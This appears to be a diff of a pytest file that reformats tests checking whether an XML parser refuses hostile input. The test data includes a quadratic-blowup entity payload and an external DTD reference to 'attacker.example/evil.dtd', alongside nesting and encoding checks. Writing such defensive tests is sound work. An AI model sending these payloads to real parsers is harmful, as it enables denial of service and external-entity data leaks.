@@ -38,14 +38,21 @@ def test_billion_laughs_is_refused_fast() -> None:
 
 
 def test_quadratic_blowup_is_refused() -> None:
-    content = (b'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "' + b"a" * 50_000 + b'">]><kaboom>'
-               + b"&a;" * 10_000 + b"</kaboom>")
+    content = (
+        b'<?xml version="1.0"?><!DOCTYPE kaboom [<!ENTITY a "'
+        + b"a" * 50_000
+        + b'">]><kaboom>'
+        + b"&a;" * 10_000
+        + b"</kaboom>"
+    )
     _refused(content)
 
 
 def test_external_dtd_is_refused_even_after_a_comment_and_a_bom() -> None:
-    content = (b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n'
-               b'<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">\n<definitions/>')
+    content = (
+        b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n'
+        b'<!DOCTYPE definitions SYSTEM "http://attacker.example/evil.dtd">\n<definitions/>'
+    )
     assert _refused(content).problems[0]["line"] == 3
 
 
@@ -70,12 +77,15 @@ def test_deep_nesting_is_refused_not_crashing() -> None:
     assert time.perf_counter() - started < 2
 
 
-@pytest.mark.parametrize("content", [
-    b"\xff\xfe<\x00a\x00/\x00>\x00",  # UTF-16
-    b"<a>\xc3\x28</a>",  # invalid UTF-8
-    b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>',
-    bytes(range(256)) * 4,  # garbage
-])
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"\xff\xfe<\x00a\x00/\x00>\x00",  # UTF-16
+        b"<a>\xc3\x28</a>",  # invalid UTF-8
+        b'<?xml version="1.0" encoding="ISO-8859-1"?><a>caf\xe9</a>',
+        bytes(range(256)) * 4,  # garbage
+    ],
+)
 def test_non_utf8_and_garbage_are_refused(content: bytes) -> None:
     _refused(content)
 
